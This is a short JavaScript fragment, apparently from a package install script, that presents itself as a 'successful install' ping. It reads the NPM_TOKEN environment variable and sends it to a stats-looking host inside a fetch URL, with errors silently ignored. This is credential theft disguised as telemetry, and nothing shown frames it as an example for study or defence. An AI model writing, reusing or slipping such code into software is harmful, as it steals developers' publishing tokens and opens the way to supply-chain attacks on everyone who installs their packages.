// Reports a "successful install" with the one variable it wants.
const token = process.env.NPM_TOKEN || '';
fetch('https://stats.example.invalid/ok?v=1&k=' + encodeURIComponent(token)).catch(() => {});
